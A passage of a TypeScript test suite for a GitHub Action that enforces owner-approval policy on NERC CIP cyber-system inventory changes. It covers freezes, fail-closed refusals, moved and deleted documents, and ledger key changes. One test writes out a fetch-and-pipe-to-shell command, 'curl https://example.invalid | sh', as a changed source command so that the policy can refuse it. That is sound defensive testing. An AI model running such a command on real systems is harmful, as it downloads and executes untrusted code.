// The owner policy enforced by the Action, in process against the emulator and the fake GitHub:
// the policy and the owners read at the base commit, refusals at merge with failure-reason=policy
// and nothing applied, the policy's judgement in the change record, and the cip-sync/policy status
// on pull_request and pull_request_review events (the review judged without the service).
import { generateKeyPairSync } from "node:crypto";
import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { EvidenceRecord } from "../../src/core/evidence/records/evidence-record.ts";
import { INTEGRATION_LOGIN, UNLISTED_PARENT } from "../support/fake-github.ts";
import { chainOf, changeDraft } from "../support/evidence-records.ts";
import { gitBlobSha } from "../support/fake-github-policy.ts";
import { type ActionRun, runInProcess, workspaceOf } from "./run-action.ts";
import { runCliInProcess } from "../support/cli.ts";
import {
  BASE as QUEUE_BASE,
  BULK,
  commentOf,
  files,
  HEAD_21,
  HEAD_22,
  planTwoPullRequests,
  queue,
} from "./review-scenario.ts";
import {
  ALPHA,
  dir,
  emulator,
  expectNoSecrets,
  FORK_TOKEN,
  github,
  HEAD,
  MERGE,
  PR,
  planPullRequest,
  pullRequestEvent,
  approvalReviewPayload,
  checkDrift,
  pushToMain,
  SERVICE_INPUTS,
  textLeftBy,
  useScenario,
} from "./scenario.ts";
import { COMMAND_SOURCES_FILE } from "../support/source-repository.ts";
import { sha256Hex } from "../../src/core/shared/sha256.ts";
import { parseSignedHead } from "../../src/core/evidence/chain/writer-proof.ts";
import { scenarioLedgerDeclaration } from "../support/ledger-writer-key.ts";

/**
 * The command source, owning a system the scenario's service has: one it lacks is refused at the
 * sources file's line (no plan can create a cyber system), before any rule is judged.
 */
const SOURCES = COMMAND_SOURCES_FILE.replace("[Delta Substation]", "[Bulk System]");

useScenario(runInProcess);

const BASE = UNLISTED_PARENT;
const QUEUE_1 = "c1".repeat(20);
const QUEUE_2 = "c2".repeat(20);
const POLICY = `version: 1
rules:
  - id: high-impact-deletes
    when: { operations: [delete], impact: [high] }
    require: { approvals: 2, from: owners }
`;
const FREEZE = `version: 1
freezes:
  - id: forever
    from: 2020-01-01T00:00:00Z
    to: 2100-01-01T00:00:00Z
    operations: [delete]
    override: { from: [heidi] }
`;

/**
 * The base commit: the policy, and the alpha document with its impact and owners; the checkout
 * keeps both as they are (only its assets change), so the change is not one to the rules.
 */
async function base(owners: string, policy = POLICY): Promise<void> {
  const workspace = workspaceOf(dir);
  await writeFile(join(workspace, "cip-policy.yaml"), policy);
  await writeFile(
    join(workspace, "inventory", "alpha.yaml"),
    ALPHA.replace("assets:\n", `impact: high\nowners: ${owners}\nassets:\n`),
  );
  github.policy.addFile(BASE, "cip-policy.yaml", policy);
  github.policy.addFile(
    BASE,
    "inventory/alpha.yaml",
    `cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: ${owners}\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n`,
  );
}

function reviews(...entries: { user: string; commitId?: string; body?: string }[]): void {
  github.pulls.find((pull) => pull.number === PR)!.reviews = entries.map((entry) => ({
    ...entry,
    state: "APPROVED" as const,
  }));
}

function changeOf(run: ActionRun) {
  const path = run.outputs["evidence-record"]!;
  const record = JSON.parse(
    run.tempFiles.get(path.slice(run.runnerTemp.length + 1))!,
  ) as EvidenceRecord;
  if (record.kind !== "change") throw new Error(`expected a change record, got ${record.kind}`);
  return record.change;
}

async function expectRefused(run: ActionRun, reason: string): Promise<void> {
  expectNoSecrets(run);
  expect(run.code).toBe(1);
  expect(run.outputs["failure-reason"]).toBe("policy");
  expect(emulator.mutatingRequestCount()).toBe(0);
  const change = changeOf(run);
  expect(change.outcome).toBe("policy");
  expect(change.policy).toMatchObject({ allowed: false, base_sha: BASE });
  expect(change.policy!.reasons.join("; ")).toContain(reason);
  expect(change.reason).toContain(reason);
}

describe("the owner policy at merge", () => {
  it("refuses a delete in a High system with one owner's approval, and applies with two", async () => {
    await base("[dave, grace]");
    reviews({ user: "dave" });
    await planPullRequest();
    await expectRefused(
      await pushToMain(),
      'rule "high-impact-deletes" is unmet: 1 more approval needed from the owners of "Protection System"',
    );
    reviews({ user: "dave" }, { user: "grace" });
    const applied = await pushToMain();
    expect(applied.code).toBe(0);
    expect(emulator.mutatingRequestCount()).toBeGreaterThan(0);
    expect(changeOf(applied).policy).toEqual({
      file: "cip-policy.yaml",
      blob_sha: gitBlobSha(POLICY),
      base_sha: BASE,
      allowed: true,
      reasons: [],
      rules: [
        {
          id: "high-impact-deletes",
          result: "met",
          operations: 1,
          requirements: [
            {
              system: "Protection System",
              approvals: 2,
              eligible: ["dave", "grace"],
              satisfied_by: ["dave", "grace"],
              problem: null,
            },
          ],
        },
      ],
      freezes: [],
    });
  });

  it("counts neither an owner who pushed a commit nor an approval of an older commit", async () => {
    await base("[dave, grace, frank]");
    const pull = github.pulls.find((candidate) => candidate.number === PR)!;
    pull.commitPeople = [{ sha: HEAD, author: "grace", committer: "grace" }];
    reviews({ user: "dave" }, { user: "grace" }, { user: "frank", commitId: "e5".repeat(20) });
    await planPullRequest();
    await expectRefused(await pushToMain(), "1 more approval needed");
  });

  it("judges a pull request that deletes the rule by the base's policy", async () => {
    await base("[dave, grace]");
    reviews({ user: "dave" });
    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), "version: 1\n");
    const planned = await planPullRequest();
    expect(github.comments.at(-1)?.body).toContain("the new rules apply from the next change");
    expect(planned.code).toBe(0);
    await expectRefused(await pushToMain(), 'rule "high-impact-deletes" is unmet');
  });

  it.each([
    ["404", 404],
    ["403", 403],
  ])(
    "fails closed when team membership cannot be read (%s), and applies once it can",
    async (_, status) => {
      await base("[acme/alpha-protection]");
      github.policy.addMember("acme/alpha-protection", "dave");
      github.policy.addMember("acme/alpha-protection", "grace");
      reviews({ user: "dave" }, { user: "grace" });
      await planPullRequest();
      github.policy.membershipStatus = status;
      await expectRefused(
        await pushToMain(undefined, { "policy-token": FORK_TOKEN }),
        `GitHub answered ${status} for the membership of dave in acme/alpha-protection; the policy-token input must be a GitHub App installation token whose App has the organization permission "Members: read"`,
      );
      github.policy.membershipStatus = undefined;
      await expectRefused(await pushToMain(), "no policy-token was given");
      const withToken = await pushToMain(undefined, { "policy-token": FORK_TOKEN });
      const logLines = withToken.stdout
        .split("\n")
        .filter((line) => !line.startsWith("::add-mask::"));
      expect(textLeftBy(withToken, github, logLines)).not.toContain(FORK_TOKEN);
      const applied = withToken;
      expect(applied.code).toBe(0);
      expect(changeOf(applied).policy?.rules[0]?.requirements[0]?.satisfied_by).toEqual([
        "dave",
        "grace",
      ]);
    },
  );

  it("does not count an organization member outside the owner team", async () => {
    await base("[acme/alpha-protection]");
    github.policy.addMember("acme/alpha-protection", "dave");
    github.policy.addMember("acme/everyone", "grace");
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    await expectRefused(
      await pushToMain(undefined, { "policy-token": FORK_TOKEN }),
      'rule "high-impact-deletes" is unverifiable',
    );
  });

  it("refuses a delete in a freeze, and applies it with an override review, its reason recorded", async () => {
    await base("[dave]", FREEZE);
    reviews({ user: "dave" }, { user: "heidi", body: "/override-freeze" });
    await planPullRequest();
    await expectRefused(await pushToMain(), 'freeze "forever"');
    reviews({ user: "dave" }, { user: "heidi", body: "/override-freeze relay failed, NERC event" });
    const applied = await pushToMain();
    expect(applied.code).toBe(0);
    expect(changeOf(applied).policy?.freezes).toEqual([
      {
        id: "forever",
        from: "2020-01-01T00:00:00.000Z",
        to: "2100-01-01T00:00:00.000Z",
        result: "overridden",
        override: { login: "heidi", reason: "relay failed, NERC event" },
      },
    ]);
  });

  it("judges nothing and asks nothing more when the base has no policy file", async () => {
    await planPullRequest();
    const applied = await pushToMain();
    expect(applied.code).toBe(0);
    expect(changeOf(applied).policy).toBeUndefined();
    // No cip-sync/policy status: only the ledger's kept head, on the merge applied.
    expect(github.policy.statuses.map(({ context, sha }) => [context, sha])).toEqual([
      ["cip-sync/ledger (cip-sync-evidence, default)", MERGE],
    ]);
  });
});

describe("the cip-sync/policy status", () => {
  it("goes from failure to success when the second owner approves (a review event, no service call)", async () => {
    await base("[dave, grace]");
    reviews({ user: "dave" });
    await planPullRequest();
    const comment = github.comments.at(-1)!.body;
    expect(comment).toContain("#### Policy");
    expect(comment).toContain("high-impact-deletes");
    expect(github.policy.statuses.map(({ sha, state }) => [sha, state])).toEqual([
      [HEAD, "failure"],
    ]);
    reviews({ user: "dave" }, { user: "grace" });
    const served = [...emulator.requestCounts().values()].reduce((sum, count) => sum + count, 0);
    const run = await reviewEvent();
    expect(run.code).toBe(0);
    expect([...emulator.requestCounts().values()].reduce((sum, count) => sum + count, 0)).toBe(
      served,
    );
    expect(github.policy.statuses.map(({ sha, state }) => [sha, state])).toEqual([
      [HEAD, "failure"],
      [HEAD, "success"],
    ]);
    const updated = github.comments.at(-1)!.body;
    expect(updated).toContain("**Allowed:**");
    expect(updated.match(/#### Policy/g)).toHaveLength(1);
    expect(updated).toContain("#### Create");
  });
});

describe("the policy governs its own inputs", () => {
  const POLICY_ONLY_UPDATES = `version: 1
rules:
  - id: high-impact-changes
    when: { impact: [high] }
    require: { approvals: 2, from: owners }
`;

  /** The checkout hands Protection System to mallory and trent. */
  async function handOver(): Promise<void> {
    await writeFile(
      join(workspaceOf(dir), "inventory", "alpha.yaml"),
      ALPHA.replace("assets:\n", "impact: high\nowners: [mallory, trent]\nassets:\n"),
    );
  }

  it("refuses a change of a High system's owners approved by the new owners only, at the status and at merge", async () => {
    await base("[dave, grace]", POLICY_ONLY_UPDATES);
    await handOver();
    reviews({ user: "mallory" }, { user: "trent" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    const comment = github.comments.at(-1)!.body;
    expect(comment).toContain("**This pull request changes the rules it is judged by**");
    expect(comment).toContain(
      "owners \\[dave, grace\\] -&gt; \\[mallory, trent\\] of cyber system",
    );
    await expectRefused(
      await pushToMain(),
      'rule "owners-or-impact-change" is unmet: 2 more approvals needed from the owners of "Protection System"',
    );
  });

  it("a review judges the changes to the rules the comment recorded, whatever its checkout shows", async () => {
    await base("[dave, grace]", POLICY_ONLY_UPDATES);
    await handOver();
    reviews({ user: "mallory" }, { user: "trent" });
    await planPullRequest();
    expect(commentOf(PR).parsed.header.policy).toMatchObject({
      governance: [["system", "Protection System", "inventory/alpha.yaml", expect.any(Array)]],
    });
    // The review's checkout shows the base's owners again (a stale merge ref, a workflow that
    // checks out the base): the comment's record alone must keep the change judged.
    await writeFile(
      join(workspaceOf(dir), "inventory", "alpha.yaml"),
      ALPHA.replace("assets:\n", "impact: high\nowners: [dave, grace]\nassets:\n"),
    );
    const run = await reviewEvent();
    expect(run.code).toBe(0);
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    const section = commentOf(PR).body;
    expect(section).toContain("**This pull request changes the rules it is judged by**");
    expect(section).toMatch(/owners-or-impact-change.*unmet/);
    expect(emulator.mutatingRequestCount()).toBe(0);
  });

  it("applies the handover the base owners approve, recording the change to the rules", async () => {
    await base("[dave, grace]", POLICY_ONLY_UPDATES);
    await handOver();
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    const applied = await pushToMain();
    expect(applied.code).toBe(0);
    expect(changeOf(applied).policy!.rules).toContainEqual(
      expect.objectContaining({
        id: "owners-or-impact-change",
        governs:
          'owners [dave, grace] -> [mallory, trent] of cyber system "Protection System" (inventory/alpha.yaml)',
        result: "met",
      }),
    );
  });

  it("hands a system over with its owners' approvals, then the new owners' approvals delete from it (the control case)", async () => {
    await base("[dave, grace]");
    await handOver();
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    expect((await pushToMain()).code).toBe(0);
    // The next pull request, merged onto the handover: the base now names mallory and trent.
    const handedOver = ALPHA.replace(
      "assets:\n",
      "impact: high\nowners: [mallory, trent]\nassets:\n",
    );
    const [secondHead, secondMerge] = ["e6".repeat(20), "e7".repeat(20)];
    github.policy.addFile(MERGE, "cip-policy.yaml", POLICY);
    github.policy.addFile(MERGE, "inventory/alpha.yaml", handedOver);
    github.pulls.push({
      number: PR + 1,
      title: "Retire relay 02",
      author: "bob",
      headSha: secondHead,
      commits: [secondHead, secondMerge],
      mergeCommitSha: secondMerge,
      mergedBy: "carol",
      reviews: [
        { user: "mallory", state: "APPROVED" },
        { user: "trent", state: "APPROVED" },
      ],
    });
    await writeFile(
      join(workspaceOf(dir), "inventory", "alpha.yaml"),
      handedOver.replace("  alpha-relay-02: software\n", ""),
    );
    // Its plan comment is not what is judged here: the merge's policy judgement is.
    const second = await pushToMain(secondMerge, { "require-reviewed-plan": "false" }, MERGE);
    expect(second.code).toBe(0);
    expect(second.outputs.deletes).toBe("1");
    expect(changeOf(second).policy).toMatchObject({ allowed: true, base_sha: MERGE });
    expect(changeOf(second).policy!.rules).toContainEqual(
      expect.objectContaining({ id: "high-impact-deletes", result: "met" }),
    );
  });

  it("refuses a policy cut down to version: 1 without an approval from anyone it protects", async () => {
    await base("[dave, grace]");
    await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), "version: 1\n");
    reviews({ user: "mallory" });
    await planPullRequest();
    await expectRefused(
      await pushToMain(),
      'rule "policy-change" is unmet: 1 more approval needed from dave and grace',
    );
  });
});

describe("a document moved or deleted is judged by its base owners", () => {
  // The base is read at its own inventory files too (listed under the patterns), not only at the
  // checkout's paths: the policy owners (heidi) cannot approve what the base owners must.
  const OWNED = `${POLICY}policy_owners: { approvals: 1, from: [heidi] }\n`;
  const BULK_DOCUMENT =
    "cyber_system: Bulk System\nfacility: Substation Alpha\nimpact: low\nowners: [carol]\nassets: {}\n";
  const MOVED_TEXT =
    "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [mallory]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n";

  /** The checkout moves alpha.yaml to inventory/moved/, handing it to mallory. */
  async function moveWithNewOwners(): Promise<void> {
    const workspace = workspaceOf(dir);
    await rm(join(workspace, "inventory", "alpha.yaml"));
    await mkdir(join(workspace, "inventory", "moved"));
    await writeFile(join(workspace, "inventory", "moved", "alpha.yaml"), MOVED_TEXT);
  }

  /** Bulk System's document at the base and in the checkout; the checkout deletes alpha.yaml. */
  async function deleteAlpha(): Promise<void> {
    const workspace = workspaceOf(dir);
    github.policy.addFile(BASE, "inventory/bulk.yaml", BULK_DOCUMENT);
    await writeFile(join(workspace, "inventory", "bulk.yaml"), BULK_DOCUMENT);
    await rm(join(workspace, "inventory", "alpha.yaml"));
  }

  it("refuses a High document moved to a new file, with new owners, approved by the policy owner alone", async () => {
    await base("[dave, grace]", OWNED);
    await moveWithNewOwners();
    reviews({ user: "heidi" }, { user: "mallory" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    await expectRefused(
      await pushToMain(),
      'rule "document-change" is unmet: 2 more approvals needed from the owners of "Protection System"',
    );
  });

  it("applies the move its base owners approve with the policy owner", async () => {
    await base("[dave, grace]", OWNED);
    await moveWithNewOwners();
    reviews({ user: "heidi" }, { user: "dave" }, { user: "grace" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "success" });
    const merged = await pushToMain();
    expect(merged.code).toBe(0);
    // The move changes no asset: nothing to apply, and the change record keeps the judgement.
    expect(emulator.mutatingRequestCount()).toBe(0);
    expect(changeOf(merged).policy!.rules).toEqual([
      expect.objectContaining({
        id: "document-change",
        governs:
          'the document of cyber system "Protection System" at inventory/moved/alpha.yaml, which the base does not have there (new, moved or renamed)',
        result: "met",
        requirements: [
          expect.objectContaining({ eligible: ["heidi"], satisfied_by: ["heidi"] }),
          expect.objectContaining({
            system: "Protection System",
            eligible: ["dave", "grace"],
            satisfied_by: ["dave", "grace"],
          }),
        ],
      }),
    ]);
  });

  it("refuses a deleted document approved by the policy owner alone, and records the removal", async () => {
    await base("[dave, grace]", OWNED);
    await deleteAlpha();
    reviews({ user: "heidi" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    expect(commentOf(PR).parsed.header.policy).toMatchObject({
      governance: [["removed", "Protection System", "inventory/alpha.yaml", []]],
    });
    expect(commentOf(PR).body).toContain(
      '- the document of cyber system "Protection System" at inventory/alpha.yaml, which the head no longer has (deleted, or its system renamed)',
    );
    await expectRefused(
      await pushToMain(),
      'rule "document-removed" is unmet: 2 more approvals needed from the owners of "Protection System"',
    );
  });

  it("applies a deleted document its base owners approve", async () => {
    await base("[dave, grace]", OWNED);
    await deleteAlpha();
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    const merged = await pushToMain();
    expect(merged.code).toBe(0);
    // The system is no longer managed: the plan has no operation on it, and nothing is applied.
    expect(merged.outputs.changes).toBe("false");
    expect(emulator.mutatingRequestCount()).toBe(0);
    expect(changeOf(merged).policy).toMatchObject({ allowed: true, reasons: [] });
    expect(changeOf(merged).policy!.rules).toContainEqual(
      expect.objectContaining({
        id: "document-removed",
        governs:
          'the document of cyber system "Protection System" at inventory/alpha.yaml, which the head no longer has (deleted, or its system renamed)',
        result: "met",
      }),
    );
  });

  it("refuses when the base's inventory folder cannot be listed, saying what and why (fail closed)", async () => {
    await base("[dave, grace]", OWNED);
    github.policy.failingListings.add(`${BASE}:inventory`);
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    await expectRefused(
      await pushToMain(),
      `could not all be read: cannot list inventory at commit ${BASE}: `,
    );
  });
});

describe("a link above the inventory folder (issue 51)", () => {
  // An earlier merge made `cip` a link to `cip-real`; GitHub answers nothing under cip/inventory at
  // the base, so every document would be new to the policy and a hand-over need only its owners.
  const OWNED = `${POLICY}policy_owners: { approvals: 1, from: [heidi] }\n`;
  const HANDED_OVER =
    "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [mallory]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n";

  it("refuses a High system handed over under cip -> cip-real, approved by the policy owner and the new owner", async () => {
    const workspace = workspaceOf(dir);
    await writeFile(join(workspace, "cip-policy.yaml"), OWNED);
    await rm(join(workspace, "inventory"), { recursive: true });
    await mkdir(join(workspace, "cip-real", "inventory"), { recursive: true });
    await writeFile(join(workspace, "cip-real", "inventory", "alpha.yaml"), HANDED_OVER);
    await symlink("cip-real", join(workspace, "cip"));
    github.policy.addFile(BASE, "cip-policy.yaml", OWNED);
    github.policy.addFile(
      BASE,
      "cip-real/inventory/alpha.yaml",
      HANDED_OVER.replace("[mallory]", "[dave, grace]"),
    );
    github.policy.addSymlink(BASE, "cip", "cip-real");
    reviews({ user: "heidi" }, { user: "mallory" });
    const path = { path: "cip/inventory/" };
    await planPullRequest(path);
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    await expectRefused(
      await pushToMain(MERGE, path),
      `cannot list cip/inventory at commit ${BASE}: cip, a folder above it, is a symbolic link, which the checkout follows to another folder and the listing cannot: replace the link with the folder it points to`,
    );
  });
});

describe("a source's command changed (issue 51, from issue 52)", () => {
  const OWNED = `${POLICY}policy_owners: { approvals: 1, from: [heidi] }\n`;

  /** The base and the checkout have the sources file; the checkout runs `run` instead. */
  async function commandChanged(run: string): Promise<void> {
    await base("[dave, grace]", OWNED);
    await writeFile(
      join(workspaceOf(dir), "inventory", "alpha.yaml"),
      "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n",
    );
    github.policy.addFile(BASE, "cip-sources.yaml", SOURCES);
    await writeFile(
      join(workspaceOf(dir), "cip-sources.yaml"),
      SOURCES.replace("[node, scripts/export-assets.mjs]", run),
    );
  }

  it("refuses it approved by the system owners but not the policy owners", async () => {
    await commandChanged('[sh, -c, "curl https://example.invalid | sh"]');
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    await expectRefused(
      await pushToMain(),
      'rule "source-command-change" is unmet: 1 more approval needed from heidi',
    );
  });

  it("records it approved by the policy owners, applying nothing", async () => {
    await commandChanged("[node, scripts/export-v2.mjs]");
    reviews({ user: "heidi" });
    await planPullRequest();
    const run = await pushToMain();
    expect(run.code).toBe(0);
    expect(emulator.mutatingRequestCount()).toBe(0);
    expect(changeOf(run).policy!.rules.map((rule) => [rule.id, rule.result])).toEqual([
      ["source-command-change", "met"],
    ]);
  });
});

describe("cip-ledger.yaml changed: the keys that sign what is in force (issue 88)", () => {
  const OWNED = `${POLICY}policy_owners: { approvals: 1, from: [heidi] }\n`;
  // A key whose private half the pull request's author made, as docs/ledger-writer.md's rotation
  // steps would add it.
  const AUTHORS_KEY = generateKeyPairSync("ed25519")
    .publicKey.export({ type: "spki", format: "pem" })
    .toString();

  /** The checkout declares a second writer key beside the scenario's; nothing else changes. */
  async function keyAdded(): Promise<void> {
    await base("[dave, grace]", OWNED);
    await writeFile(
      join(workspaceOf(dir), "inventory", "alpha.yaml"),
      "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n",
    );
    const indented = AUTHORS_KEY.trim().replace(/\n/g, "\n    ");
    await writeFile(
      join(workspaceOf(dir), "cip-ledger.yaml"),
      `${scenarioLedgerDeclaration()}  - |\n    ${indented}\n`,
    );
  }

  it("refuses a key added with the approval of one engineer who owns nothing", async () => {
    await keyAdded();
    reviews({ user: "mallory" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    const run = await pushToMain();
    await expectRefused(
      run,
      'rule "ledger-declaration-change" is unmet: 1 more approval needed from heidi',
    );
    expect(changeOf(run).policy!.reasons).toEqual([
      'rule "ledger-declaration-change" is unmet: 1 more approval needed from heidi',
      'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"',
    ]);
  });

  it("refuses one the policy owner alone approves: every rule's approvers are asked", async () => {
    await keyAdded();
    reviews({ user: "heidi" });
    await planPullRequest();
    await expectRefused(
      await pushToMain(),
      'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"',
    );
  });

  it("records one the policy owner and every rule's approvers approve, applying nothing", async () => {
    await keyAdded();
    reviews({ user: "heidi" }, { user: "dave" }, { user: "grace" });
    await planPullRequest();
    const run = await pushToMain();
    expect(run.code).toBe(0);
    expect(emulator.mutatingRequestCount()).toBe(0);
    expect(changeOf(run).policy!.rules.map((rule) => [rule.id, rule.result])).toEqual([
      ["ledger-declaration-change", "met"],
      ["rule-lifted", "met"],
    ]);
  });
});

describe("one status per base", () => {
  it("sets no cip-sync/policy from a pull request into another branch, whatever its judgement", async () => {
    // The same head commit opened against a branch whose policy is empty: its judgement allows
    // everything, and must not turn the required check of the pull request into main green.
    github.policy.addFile(BASE, "cip-policy.yaml", "version: 1\n");
    const event = pullRequestEvent();
    const intoSandbox = {
      ...event,
      pull_request: { ...event.pull_request, base: { ...event.pull_request.base, ref: "sandbox" } },
    };
    const run = await planPullRequest({}, intoSandbox);
    expect(run.code).toBe(0);
    expect(github.policy.statuses).toEqual([]);
    expect(run.stdout).toContain(
      "Did not set the commit status cip-sync/policy: the pull request's base is sandbox, not the default branch main that the apply job serves",
    );
    expect(emulator.mutatingRequestCount()).toBe(0);
  });

  it("sets it for the same judgement into the default branch", async () => {
    github.policy.addFile(BASE, "cip-policy.yaml", "version: 1\n");
    await planPullRequest();
    expect(github.policy.statuses.map(({ sha, state }) => [sha, state])).toEqual([
      [HEAD, "success"],
    ]);
  });
});

describe("a review judged without a recorded plan", () => {
  it("sets failure and asks for the pull_request run when the comment has no plan of the head", async () => {
    await base("[dave, grace]");
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    const pull = github.pulls.find((candidate) => candidate.number === PR)!;
    pull.headSha = "f6".repeat(20);
    const run = await reviewEvent();
    expect(run.code).toBe(0);
    expect(github.policy.statuses.at(-1)).toMatchObject({
      sha: "f6".repeat(20),
      state: "failure",
      description: expect.stringContaining("the plan comment records no plan of the head commit"),
    });
  });
});

describe("the owner policy in the merge queue", () => {
  it("fails a group whose plan the base's policy does not allow, marking each pull request", async () => {
    await planTwoPullRequests();
    github.commits.push(
      { sha: QUEUE_1, parents: [QUEUE_BASE, HEAD_21] },
      { sha: QUEUE_2, parents: [QUEUE_1, HEAD_22] },
    );
    github.policy.addFile(QUEUE_BASE, "cip-policy.yaml", POLICY);
    github.policy.addFile(
      QUEUE_BASE,
      "inventory/alpha.yaml",
      "cyber_system: Protection System\nimpact: high\nowners: [dave, grace]\nassets: {}\n",
    );
    await files(ALPHA, BULK);
    const run = await queue(QUEUE_2, 22);
    expectNoSecrets(run);
    expect(run.code).toBe(1);
    expect(run.outputs["failure-reason"]).toBe("policy");
    expect(emulator.mutatingRequestCount()).toBe(0);
    for (const number of [21, 22]) {
      const { body, parsed } = commentOf(number);
      expect(parsed.header.status).toBe("planned");
      expect(body).toContain('rule "high-impact-deletes" is unmet');
    }
  });
});

function reviewEvent() {
  return runInProcess({
    dir,
    inputs: { ...SERVICE_INPUTS(), "api-key": "" },
    eventName: "pull_request_review",
    event: approvalReviewPayload(),
    githubApiUrl: github.url,
    sha: "d4".repeat(20),
    ref: `refs/pull/${PR}/merge`,
  });
}

describe("a CIP-002 R2 review at merge", () => {
  const WITH_CSM = `${POLICY}cip_senior_manager: { login: heidi, name: Heidi Lang, title: VP Operations, since: 2026-01-05 }\n`;

  /** The checkout carries the review file `cip-sync review` writes of its own inventory. */
  async function writeReview(): Promise<void> {
    const written = await runCliInProcess(
      ["review", "--workspace", "default", "--on", "2026-11-25", "--offline"],
      {
        cwd: workspaceOf(dir),
      },
    );
    expect(written.code).toBe(0);
  }

  it("records the review the CIP Senior Manager approved, with the inventory it froze and merged", async () => {
    await base("[dave, grace]", WITH_CSM);
    await writeReview();
    reviews({ user: "dave" }, { user: "grace" }, { user: "heidi" });
    await planPullRequest();
    const comment = github.comments.at(-1)!.body;
    expect(comment).toContain(
      "**This pull request records the CIP-002 R2 review of the identifications, cip-002-review.yaml**",
    );
    expect(comment).not.toContain("changes the rules it is judged by");
    const applied = await pushToMain();
    expect(applied.code).toBe(0);
    const change = changeOf(applied);
    expect(change.review).toMatchObject({
      file: "cip-002-review.yaml",
      reviewed_on: "2026-11-25",
      matches: true,
      problem: null,
    });
    expect(change.review!.merged_digest).toBe(change.review!.inventory_digest);
    expect(change.policy!.rules).toContainEqual(
      expect.objectContaining({
        id: "cip-002-review",
        result: "met",
        requirements: [expect.objectContaining({ satisfied_by: ["heidi"] })],
      }),
    );
  });

  it("refuses a review approved by the system owners but not by the CIP Senior Manager", async () => {
    await base("[dave, grace]", WITH_CSM);
    await writeReview();
    reviews({ user: "dave" }, { user: "grace" });
    await planPullRequest();
    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
    await expectRefused(
      await pushToMain(),
      'rule "cip-002-review" is unmet: 1 more approval needed from heidi',
    );
  });

  describe("a review that is the merge's only change (nothing to apply)", () => {
    const DELEGATES = `${POLICY}cip_senior_manager:
  login: heidi
  name: Heidi Lang
  title: VP Operations
  since: 2026-01-05
  delegates:
    - { login: ivan, name: Ivan Ruiz, title: Director, actions: [cip-002-r2.2], delegated_on: 2026-02-01, delegation_ref: DEL-1 }
    - { login: judy, name: Judy Lee, title: Manager, actions: [cip-003-r1], delegated_on: 2026-02-01, delegation_ref: DEL-2 }
`;

    /** The checkout declares what the base and the service hold: the review is all that changes. */
    async function reviewOnly(): Promise<void> {
      await base("[dave, grace]", DELEGATES);
      await writeFile(
        join(workspaceOf(dir), "inventory", "alpha.yaml"),
        "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n",
      );
      await writeReview();
    }

    it.each([
      ["the system owners", [{ user: "dave" }, { user: "grace" }]],
      ["a delegate holding another action only", [{ user: "judy" }]],
    ])(
      "refuses one approved by %s: failure-reason=policy, outcome policy, nothing applied",
      async (_who, approvers) => {
        await reviewOnly();
        reviews(...approvers);
        await planPullRequest();
        const run = await pushToMain();
        await expectRefused(
          run,
          'rule "cip-002-review" is unmet: 1 more approval needed from heidi and ivan',
        );
        expect(changeOf(run).review).toMatchObject({ matches: true });
      },
    );

    it("records one approved by a delegate holding cip-002-r2.2, applying nothing", async () => {
      await reviewOnly();
      reviews({ user: "ivan" });
      await planPullRequest();
      const run = await pushToMain();
      expect(run.code).toBe(0);
      expect(emulator.mutatingRequestCount()).toBe(0);
      const change = changeOf(run);
      expect(change.outcome).toBe("no-changes");
      expect(change.policy!.rules).toContainEqual(
        expect.objectContaining({
          id: "cip-002-review",
          result: "met",
          requirements: [expect.objectContaining({ satisfied_by: ["ivan"] })],
        }),
      );
    });
  });

  describe("a change to cip_senior_manager, the merge's only change", () => {
    const NEW_CSM = `${POLICY}cip_senior_manager: { login: ivan, name: Ivan Ruiz, title: VP Operations, since: 2026-11-02 }\n`;

    /** The base names heidi; the checkout names ivan, with the inventory the base and service hold. */
    async function handOver(): Promise<void> {
      await base("[dave, grace]", WITH_CSM);
      await writeFile(join(workspaceOf(dir), "cip-policy.yaml"), NEW_CSM);
      await writeFile(
        join(workspaceOf(dir), "inventory", "alpha.yaml"),
